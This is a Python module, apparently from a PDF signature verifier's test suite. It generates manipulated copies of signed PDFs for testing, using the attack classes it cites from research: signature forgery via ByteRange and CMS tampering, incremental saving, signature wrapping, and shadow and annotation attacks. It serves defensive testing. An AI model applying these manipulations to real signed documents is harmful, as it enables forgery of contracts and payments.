"""The attack corpus: manipulated PDFs made from our own signed PDFs, at test time.

Each generator takes signed bytes (and what it needs to sign more) and
returns the manipulated bytes. The attack classes are those of the PDF
signature literature (Mladenov et al. 2019, "1 Trillion Dollar Refund";
Mainka et al. 2021, shadow attacks; Müller et al. 2021, certification
attacks): universal signature forgery (USF), incremental saving attack
(ISA), signature wrapping (SWA), shadow hide / replace / hide-and-replace,
and certification attacks with annotations (EAA).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter

BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    make: Callable[[bytes], bytes]


def _last_byte_range(pdf: bytes) -> re.Match[bytes]:
    matches = list(BYTE_RANGE.finditer(pdf))
    assert matches, "no /ByteRange in the input"
    return matches[-1]


def _same_width(match: re.Match[bytes], values: tuple[int, int, int, int]) -> bytes:
    text = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    width = match.end() - match.start()
    assert len(text) <= width, "replacement /ByteRange does not fit"
    return text[:-1] + b" " * (width - len(text)) + b"]"


def _replace(pdf: bytes, match: re.Match[bytes], new: bytes) -> bytes:
    return pdf[: match.start()] + new + pdf[match.end() :]


# -- universal signature forgery ------------------------------------------------------
def usf_zero_contents(pdf: bytes) -> bytes:
    """/Contents kept in place but all zeros: no CMS at all."""
    m = _last_byte_range(pdf)
    start, length = int(m.group(2)), int(m.group(3)) - int(m.group(2))
    return pdf[: start + 1] + b"0" * (length - 2) + pdf[start + length - 1 :]


def usf_flip_timestamp(pdf: bytes) -> bytes:
    """One hex digit near the end of the CMS changed: inside the signature's timestamp token."""
    m = _last_byte_range(pdf)
    start = int(m.group(2))
    contents = pdf[start + 1 : int(m.group(3)) - 1].rstrip(b"0")
    pos = start + 1 + len(contents) - 20
    digit = b"0" if pdf[pos : pos + 1] != b"0" else b"1"
    return pdf[:pos] + digit + pdf[pos + 1 :]


def usf_forged_signature_value(pdf: bytes) -> bytes:
    """The CMS re-encoded with one bit of the signature value flipped (same length)."""
    m = _last_byte_range(pdf)
    start, end = int(m.group(2)), int(m.group(3))
    hex_text = pdf[start + 1 : end - 1]
    content = cms.ContentInfo.load(bytes.fromhex(hex_text.decode()), strict=False)
    signer_info = content["content"]["signer_infos"][0]
    value = bytearray(signer_info["signature"].native)
    value[len(value) // 2] ^= 0x01
    signer_info["signature"] = bytes(value)
    forged = content.dump(force=True).hex().encode()
    assert len(forged) <= len(hex_text)
    return pdf[: start + 1] + forged + b"0" * (len(hex_text) - len(forged)) + pdf[end - 1 :]


def usf_byte_range_zero(pdf: bytes) -> bytes:
    """/ByteRange [0 0 0 0]: the signature covers nothing."""
    m = _last_byte_range(pdf)
    return _replace(pdf, m, _same_width(m, (0, 0, 0, 0)))


def usf_byte_range_short(pdf: bytes) -> bytes:
    """/ByteRange covering only the first segment (second segment of length 0)."""
    m = _last_byte_range(pdf)
    a, b, c, _ = (int(g) for g in m.groups())
    return _replace(pdf, m, _same_width(m, (a, b, c, 0)))


def usf_byte_range_overlap(pdf: bytes) -> bytes:
    """/ByteRange whose second segment starts inside /Contents."""
    m = _last_byte_range(pdf)
    a, b, c, d = (int(g) for g in m.groups())
    return _replace(pdf, m, _same_width(m, (a, b, c - 100, d + 100)))


# -- incremental saving attacks -------------------------------------------------------
def _new_content(writer: IncrementalPdfFileWriter, text: str) -> generic.IndirectObject:
    stream = generic.StreamObject(stream_data=f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode())
    return writer.add_object(stream)


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _save(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def isa_replace_page_content(pdf: bytes) -> bytes:
    """A new revision whose page 1 shows other content."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    page["/Contents"] = _new_content(writer, "SO TIEN: 999.000.000 VND")
    writer.update_container(page)
    return _save(writer)


def isa_append_page(pdf: bytes) -> bytes:
    """A new revision that adds a page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    pages = writer.root["/Pages"]
    first = _first_page(writer)
    new_page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/Parent"): writer.root.raw_get("/Pages"),
            generic.NameObject("/MediaBox"): first["/MediaBox"],
            generic.NameObject("/Contents"): _new_content(writer, "TRANG THEM"),
        }
    )
    pages["/Kids"].append(writer.add_object(new_page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    return _save(writer)


def isa_trailing_bytes(pdf: bytes) -> bytes:
    """Bytes appended after the last %%EOF without a proper revision."""
    return pdf + b"\n1 0 obj\n(injected)\nendobj\n"


# -- signature wrapping ---------------------------------------------------------------
def swa_moved_byte_range(pdf: bytes) -> bytes:
    """Second signed segment moved behind injected bytes, /ByteRange rewritten to follow it."""
    m = _last_byte_range(pdf)
    a, b, c, d = (int(g) for g in m.groups())
    injected = b"\n% wrapped\n9999 0 obj\n(Injected content)\nendobj\n"
    moved = pdf[:c] + injected + pdf[c:]
    m2 = _last_byte_range(moved)
    return _replace(moved, m2, _same_width(m2, (a, b, c + len(injected), d)))


def swa_relocated_segment(pdf: bytes) -> bytes:
    """Signature wrapping that keeps the file readable.

    The signed second segment is copied after the end of the file, and a new
    revision gives the signature field a new signature dictionary whose
    /ByteRange points at that copy: the signed bytes still hash the same,
    while the bytes between can be anything.
    """
    m = _last_byte_range(pdf)
    a, b, c, d = (int(g) for g in m.groups())
    relocated = pdf + pdf[c : c + d]
    writer = IncrementalPdfFileWriter(io.BytesIO(relocated))
    reader_sig = writer.prev.embedded_signatures[-1]
    original = reader_sig.sig_object
    wrapped = generic.DictionaryObject(
        {generic.NameObject(k): original.raw_get(k) for k in original}
    )
    wrapped["/ByteRange"] = generic.ArrayObject(
        [generic.NumberObject(v) for v in (a, b, len(pdf), d)]
    )
    field = reader_sig.sig_field
    field_ref = field.container_ref if hasattr(field, "container_ref") else None
    field_obj = writer.get_object(field_ref) if field_ref is not None else field
    field_obj["/V"] = writer.add_object(wrapped)
    writer.update_container(field_obj)
    return _save(writer)


# -- shadow attacks -------------------------------------------------------------------
def shadow_hide(pdf: bytes) -> bytes:
    """Hide: the overlay stream (the last content stream of page 1) is dropped."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    contents = page["/Contents"]
    if isinstance(contents, generic.ArrayObject) and len(contents) > 1:
        page["/Contents"] = generic.ArrayObject(list(page.raw_get("/Contents"))[:-1])
    else:
        page["/Contents"] = generic.ArrayObject([])
    writer.update_container(page)
    return _save(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Replace: the existing content stream object is overwritten (same object number)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    ref = page.raw_get("/Contents")
    if isinstance(ref, generic.ArrayObject):
        ref = ref.raw_get(0)
    stream = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 720 Td (DA DUOC THAY) Tj ET")
    writer.mark_update(ref)
    writer.objects[(ref.generation, ref.idnum)] = stream
    return _save(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Hide-and-replace: the whole page object is replaced by one with new content."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    page_ref = writer.root["/Pages"].raw_get("/Kids").raw_get(0)
    new_page = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Page"),
            generic.NameObject("/Parent"): page.raw_get("/Parent"),
            generic.NameObject("/MediaBox"): page["/MediaBox"],
            generic.NameObject("/Contents"): _new_content(writer, "NOI DUNG KHAC"),
        }
    )
    if "/Annots" in page:
        new_page[generic.NameObject("/Annots")] = page.raw_get("/Annots")
    writer.mark_update(page_ref)
    writer.objects[(page_ref.generation, page_ref.idnum)] = new_page
    return _save(writer)


# -- certification attacks with annotations -------------------------------------------
def add_annotation(pdf: bytes) -> bytes:
    """A sticky-note annotation on page 1 in a new revision."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    annot = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): generic.ArrayObject(
                [generic.NumberObject(n) for n in (72, 600, 400, 640)]
            ),
            generic.NameObject("/Contents"): generic.TextStringObject("Đã duyệt 999 triệu"),
            generic.NameObject("/DA"): generic.pdf_string("/Helv 12 Tf 0 g"),
            generic.NameObject("/P"): writer.root["/Pages"].raw_get("/Kids").raw_get(0),
        }
    )
    annots = page.raw_get("/Annots") if "/Annots" in page else None
    if isinstance(annots, generic.IndirectObject):
        # What viewers do: only the (indirect) annotation array changes.
        array = annots.get_object()
        array.append(writer.add_object(annot))
        writer.update_container(array)
    else:
        items = list(annots) if isinstance(annots, generic.ArrayObject) else []
        page["/Annots"] = generic.ArrayObject([*items, writer.add_object(annot)])
        writer.update_container(page)
    return _save(writer)


def certify(pdf: bytes, signer: signers.Signer, permission: MDPPerm) -> bytes:
    """A certification signature (DocMDP ``/P`` = ``permission``) over ``pdf``."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    fields.append_signature_field(writer, fields.SigFieldSpec("Certification"))
    meta = signers.PdfSignatureMetadata(
        field_name="Certification",
        certify=True,
        docmdp_permissions=permission,
        subfilter=SigSeedSubFilter.PADES,
    )
    out = io.BytesIO()
    signers.PdfSigner(meta, signer).sign_pdf(writer, output=out)
    return out.getvalue()


def overlay(pdf: bytes) -> bytes:
    """Page 1 gets a second content stream: a white box over part of the text.

    Signed afterwards, this is the set-up of the shadow *hide* attack: the
    hidden text is in the signed revision, the overlay is what the attacker
    later removes.
    """
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    cover = writer.add_object(generic.StreamObject(stream_data=b"q 1 1 1 rg 60 600 480 120 re f Q"))
    current = page.raw_get("/Contents")
    items = list(current) if isinstance(current, generic.ArrayObject) else [current]
    page["/Contents"] = generic.ArrayObject([*items, cover])
    writer.update_container(page)
    return _save(writer)


ATTACKS: tuple[Attack, ...] = (
    Attack("usf-zero-contents", "USF", usf_zero_contents),
    Attack("usf-flipped-timestamp", "USF", usf_flip_timestamp),
    Attack("usf-forged-signature-value", "USF", usf_forged_signature_value),
    Attack("usf-byterange-zero", "USF", usf_byte_range_zero),
    Attack("usf-byterange-short", "USF", usf_byte_range_short),
    Attack("usf-byterange-overlap", "USF", usf_byte_range_overlap),
    Attack("isa-replace-page-content", "ISA", isa_replace_page_content),
    Attack("isa-append-page", "ISA", isa_append_page),
    Attack("isa-trailing-bytes", "ISA", isa_trailing_bytes),
    Attack("swa-moved-byterange", "SWA", swa_moved_byte_range),
    Attack("swa-relocated-segment", "SWA", swa_relocated_segment),
    Attack("shadow-hide", "shadow", shadow_hide),
    Attack("shadow-replace", "shadow", shadow_replace),
    Attack("shadow-hide-and-replace", "shadow", shadow_hide_and_replace),
)
"""Attacks that apply to any signed PDF (the certification ones need a certifier)."""


def many_signatures(signed: bytes, count: int) -> bytes:
    """``count`` signature fields in one update, all holding copies of the one real signature.

    Making 500 real signatures would take minutes (each re-reads the growing
    file); copies exercise the same per-signature work of the verifier.
    """
    reader = PdfFileReader(io.BytesIO(signed))
    original = reader.embedded_signatures[0].sig_object
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    acro = writer.root["/AcroForm"]
    new_fields = list(acro["/Fields"])
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    for index in range(count - 1):
        sig_dict = generic.DictionaryObject(
            {generic.NameObject(k): original.raw_get(k) for k in original}
        )
        field = generic.DictionaryObject(
            {
                generic.NameObject("/FT"): generic.NameObject("/Sig"),
                generic.NameObject("/T"): generic.TextStringObject(f"Copy{index}"),
                generic.NameObject("/V"): writer.add_object(sig_dict),
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
                generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
                generic.NameObject("/P"): page_ref,
            }
        )
        new_fields.append(writer.add_object(field))
    acro["/Fields"] = generic.ArrayObject(new_fields)
    writer.update_container(acro)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
